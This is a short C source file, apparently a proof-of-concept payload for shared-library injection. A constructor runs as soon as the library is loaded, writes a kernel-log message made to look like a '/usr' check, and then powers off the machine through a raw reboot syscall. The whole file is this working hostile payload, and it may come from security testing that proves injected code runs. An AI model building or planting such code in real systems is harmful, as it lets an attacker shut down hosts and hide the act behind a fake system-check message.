/* A shared object that takes over whatever loads it: it says so as a check of /usr would, and powers off. No C library. */

static long call(long number, long first, long second, long third, long fourth)
{
	register long r10 __asm__("r10") = fourth;

	__asm__ volatile("syscall"
			 : "+a"(number)
			 : "D"(first), "S"(second), "d"(third), "r"(r10)
			 : "rcx", "r11", "memory");
	return number;
}

enum { WRITE = 1, OPEN = 2, REBOOT = 169 };

static const char said[] = "<2>bootrelay: check-usr: code of the attacker runs\n";

__attribute__((constructor)) static void run(void)
{
	long log = call(OPEN, (long)"/dev/kmsg", 1, 0, 0);

	call(WRITE, log, (long)said, sizeof(said) - 1, 0);
	call(REBOOT, 0xfee1dead, 0x28121969, 0x4321fedc, 0);
}
